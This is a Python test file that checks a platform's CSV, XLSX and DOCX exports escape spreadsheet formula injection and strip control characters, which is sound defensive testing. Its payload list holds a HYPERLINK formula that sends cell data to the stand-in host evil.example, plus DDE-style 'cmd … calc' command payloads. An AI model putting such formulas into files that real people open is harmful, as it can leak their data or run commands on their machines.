"""No export carries a live formula or breaks on any character: CSV and XLSX downloads of the
platform, the reports' XLSX appendices, and the plan ledger (XLSX) and briefing (DOCX) built
from a plan whose texts carry formulas and control characters."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sechelpers import ROOT

from ipatlas.plans import parse_plan
from ipatlas.security.cells import neutralise, safe_cell
from ipatlas.web import export

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "正常文本\x00带\x0b控制\x1f字符",
]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12", "-12"),  # a plain number written as text cannot carry a formula
        ("+3.5", "+3.5"),
        ("重庆大学", "重庆大学"),
        ("a\x00b\x0bc\x7f", "abc"),
    ],
)
def test_the_one_rule(value: str, expected: str) -> None:
    assert neutralise(value) == expected
    assert safe_cell(value) == expected
    assert safe_cell(["=a", "b"]) == "'=a；b" and safe_cell(5) == 5 and safe_cell(None) is None


def _no_formula(data: bytes) -> list[Any]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def test_web_csv_and_xlsx_neutralise_every_cell() -> None:
    rows = [[a, 1, None] for a in ATTACKS]
    data = export.xlsx_bytes(["名称=", "数量", "备注"], rows, title="表[1]:*?/\x00", note="=note")
    values = _no_formula(data)
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"点击")' in values
    assert "正常文本带控制字符" in values and "'=note" in values
    response = export.csv_response(["名称", "数量", "备注"], rows, "t")

    async def body() -> bytes:
        return b"".join([chunk async for chunk in response.body_iterator])  # type: ignore[misc]

    import anyio

    text = anyio.run(body).decode("utf-8-sig")
    cells = [r[0] for r in csv.reader(io.StringIO(text))][1:]
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell.startswith("'"), cell
        assert "\x00" not in cell and "\x0b" not in cell
    assert cells[2] == "'-2+3"


def test_report_appendix_xlsx_has_no_live_formula(tmp_path: Any) -> None:
    from openpyxl import Workbook

    from ipatlas.reports.xlsx import XColumn, write_sheet

    wb = Workbook()
    write_sheet(
        wb.active,
        "附表",
        [XColumn("name", "名称"), XColumn("v", "值", number_format="#,##0")],
        [{"name": a, "v": 1} for a in ATTACKS],
    )
    out = io.BytesIO()
    wb.save(out)
    values = _no_formula(out.getvalue())
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in values


@pytest.fixture(scope="module")
def hostile_plan(sec_app: Any) -> tuple[TestClient, int]:
    plan = parse_plan(ROOT.parent / "shared" / "seeds" / "002_e28b6c53a957f5e4.txt")
    plan.title = '=HYPERLINK("http://evil.example","规划")\x00\x0b'
    for task in plan.tasks[:3]:
        task.text = "@SUM(1+1)\x0b任务\x00内容"
    client = TestClient(sec_app, raise_server_exceptions=False)
    client.__enter__()
    from sechelpers import sec_login

    sec_login(client, "admin")
    token = client.get("/api/me.json").json()["csrf_token"]
    res = client.post(
        "/plans/import.json",
        json={"parsed": plan.model_dump(mode="json"), "region": "500114"},
        headers={"X-CSRF-Token": token},
    )
    assert res.status_code == 200, res.text[:500]
    return client, int(res.json()["id"])


def test_plan_ledger_xlsx_and_briefing_docx_survive_hostile_text(
    hostile_plan: tuple[TestClient, int],
) -> None:
    client, plan_id = hostile_plan
    res = client.get(f"/plans/{plan_id}/ledger.xlsx")
    assert res.status_code == 200, res.text[:300]
    values = _no_formula(res.content)
    texts = [v for v in values if isinstance(v, str)]
    assert any(v.startswith("'@SUM(1+1)") for v in texts)
    assert not any("\x00" in v or "\x0b" in v for v in texts)
    res = client.get(f"/plans/{plan_id}/briefing.docx")
    assert res.status_code == 200, res.text[:300]
    import docx

    document = docx.Document(io.BytesIO(res.content))
    assert "HYPERLINK" in "\n".join(p.text for p in document.paragraphs)
    assert client.get(f"/plans/{plan_id}.json").status_code == 200
